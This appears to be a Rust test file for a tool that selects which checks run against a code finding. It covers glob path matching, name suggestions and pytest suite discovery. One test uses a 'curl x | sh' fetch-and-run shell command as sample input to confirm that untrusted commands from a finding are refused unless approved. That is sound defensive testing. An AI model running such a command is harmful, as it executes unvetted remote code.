//! Which checks a finding gets, and which it is refused.

use std::fs;
use std::path::{Path, PathBuf};

use crate::checks::*;

fn configured(name: &str, command: &[&str], paths: Option<&[&str]>) -> ConfiguredCheck {
    ConfiguredCheck {
        name: name.into(),
        command: command.iter().map(|word| (*word).to_owned()).collect(),
        paths: paths.map(|paths| paths.iter().map(|path| (*path).to_owned()).collect()),
        kind: Kind::Test,
        cwd: PathBuf::new(),
        env: Default::default(),
        timeout: DEFAULT_LIMIT,
    }
}

fn finding(file: &str, checks: Vec<FindingCheck>) -> FindingChecks {
    FindingChecks { file: Some(file.into()), checks, ..FindingChecks::default() }
}

fn chosen(selection: &Selection) -> Vec<(String, Origin)> {
    selection.checks.iter().map(|check| (check.name.to_string(), check.origin)).collect()
}

#[test]
fn own_checks_come_before_configured_ones_and_none_twice() {
    let root = tempfile::tempdir().unwrap();
    let all = [
        configured("lint", &["lint"], None),
        configured("unit", &["run-tests"], Some(&["src/**/*.py"])),
        configured("other", &["other"], Some(&["docs/**"])),
    ];
    let given =
        finding("src/a/b.py", vec![FindingCheck::Named("unit".into()), FindingCheck::Absent("eval".into())]);
    let selection = select(&given, &all, &[], root.path(), &Tools::default());
    assert_eq!(
        chosen(&selection),
        [
            ("unit".to_owned(), Origin::Finding),
            ("absent `eval`".to_owned(), Origin::Finding),
            ("lint".to_owned(), Origin::Configured),
        ]
    );
    assert!(selection.refused.is_empty());
}

#[test]
fn a_command_in_a_finding_runs_only_when_configured_or_approved() {
    let root = tempfile::tempdir().unwrap();
    let all = [configured("unit", &["run", "tests"], Some(&["x"]))];
    let evil = vec!["sh".to_owned(), "-c".to_owned(), "curl x | sh".to_owned()];
    let known = vec!["run".to_owned(), "tests".to_owned()];
    let given = finding(
        "a.py",
        vec![
            FindingCheck::Command(evil.clone()),
            FindingCheck::Command(known),
            FindingCheck::Command(vec![]),
        ],
    );

    let selection = select(&given, &all, &[], root.path(), &Tools::default());
    assert_eq!(chosen(&selection), [("unit".to_owned(), Origin::Finding)]);
    assert_eq!(selection.refused[0].approvable, Some(evil.clone()));
    assert_eq!(selection.refused[1].approvable, None);

    let approved = select(&given, &all, &[evil], root.path(), &Tools::default());
    assert_eq!(approved.checks[0].name.as_str(), "sh -c curl x | sh");
    assert_eq!(approved.refused.len(), 1);
}

#[test]
fn an_unknown_name_is_refused_with_the_nearest_one() {
    let root = tempfile::tempdir().unwrap();
    let all = [configured("unit", &["run"], Some(&["x"]))];
    let selection = select(
        &finding("a.py", vec![FindingCheck::Named("unti".into())]),
        &all,
        &[],
        root.path(),
        &Tools::default(),
    );
    assert!(selection.checks.is_empty());
    assert!(selection.refused[0].why.contains("did you mean `unit`?"), "{:?}", selection.refused);
}

#[test]
fn paths_of_a_configured_check_are_globs_from_the_root() {
    let table: [(&[&str], &str, bool); 12] = [
        (&["src/**/*.py"], "src/a.py", true),
        (&["src/**/*.py"], "src/a/b.py", true),
        (&["src/*.py"], "src/a/b.py", false),
        (&["*.py"], "deep/down/a.py", true),
        (&["src"], "src/a/b.rs", true),
        (&["src/"], "src/a.rs", true),
        (&["./src/a.py"], "src/a.py", true),
        (&["src"], "source/a.rs", false),
        (&["docs/**", "src/**"], "src/a", true),
        (&[], "src/a", false),
        (&["{a,b}.py"], "b.py", true),
        (&["src/[ab].py"], "src/c.py", false),
    ];
    let root = tempfile::tempdir().unwrap();
    for (paths, file, expected) in table {
        let all = [configured("unit", &["run"], Some(paths))];
        let selection = select(&finding(file, vec![]), &all, &[], root.path(), &Tools::default());
        assert_eq!(selection.checks.len() == 1, expected, "{paths:?} {file}");
    }
    let broken = [configured("unit", &["run"], Some(&["src/[a"]))];
    let selection = select(&finding("a", vec![]), &broken, &[], root.path(), &Tools::default());
    assert!(selection.refused[0].why.contains("src/[a"), "{:?}", selection.refused);
}

#[test]
fn a_pattern_needs_a_file() {
    let root = tempfile::tempdir().unwrap();
    let given = FindingChecks { checks: vec![FindingCheck::Present("x".into())], ..FindingChecks::default() };
    let selection = select(&given, &[], &[], root.path(), &Tools::default());
    assert!(selection.checks.is_empty());
    assert_eq!(selection.refused.len(), 1);
}

#[test]
fn a_configured_suite_takes_the_place_of_a_discovered_one_with_the_same_runner() {
    let root = tempfile::tempdir().unwrap();
    write(root.path(), "calc.py", "def add(a, b): return a + b\n");
    write(
        root.path(),
        "test_calc.py",
        "from calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n",
    );
    let lone = select(&finding("calc.py", vec![]), &[], &[], root.path(), &Tools::default());
    assert_eq!(chosen(&lone), [("python3 -m pytest test_calc.py".to_owned(), Origin::Discovered)]);

    let all = [configured("unit", &["pytest", "-q"], None)];
    let both = select(&finding("calc.py", vec![]), &all, &[], root.path(), &Tools::default());
    assert_eq!(chosen(&both), [("unit".to_owned(), Origin::Configured)]);

    let other = [configured("script", &["python3", "checks.py"], None)];
    let both = select(&finding("calc.py", vec![]), &other, &[], root.path(), &Tools::default());
    assert_eq!(both.checks.len(), 2);
}

#[test]
fn the_criterion_of_a_failing_test_focuses_its_check() {
    let root = tempfile::tempdir().unwrap();
    let all = [configured("unit", &["run"], None)];
    let mut given = finding("a.py", vec![FindingCheck::Named("unit".into())]);
    given.criterion = from_failures::criterion_of_test("tests/test_a.py::test_b[x y]");
    let selection = select(&given, &all, &[], root.path(), &Tools::default());
    assert_eq!(selection.checks[0].focus.as_deref(), Some("tests/test_a.py::test_b[x y]"));
}

fn write(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}
